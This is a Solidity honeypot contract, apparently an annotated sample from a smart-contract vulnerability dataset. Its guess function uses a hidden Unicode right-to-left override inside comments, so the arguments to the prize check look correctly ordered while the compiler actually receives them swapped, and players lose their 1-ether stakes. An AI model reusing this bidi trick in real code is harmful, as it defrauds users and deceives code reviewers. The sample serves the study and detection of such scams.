pragma solidity ^0.5.0;

// A number-guessing honeypot: a right-to-left override in a comment makes the call read as if the guess and the
// prize were passed in the order the callee declares, while the compiler sees them swapped.
contract GuessPrize {
    uint256 private secretNumber;
    address payable private owner;

    constructor(uint256 _secretNumber) public payable {
        require(_secretNumber <= 10);
        secretNumber = _secretNumber;
        owner = msg.sender;
    }

    function guess(uint256 n) public payable {
        require(msg.value == 1 ether);
        uint256 p = address(this).balance;
        // <yes> <report> OTHER
        checkAndTransferPrize(/*The prize‮/*rebmun desseug*/n, p/*‭
                /*The user who should benefit */, msg.sender);
    }

    function checkAndTransferPrize(uint256 p, uint256 n, address payable guesser) internal returns (bool) {
        if (n == secretNumber) {
            guesser.transfer(p);
            return true;
        }
        return false;
    }
}
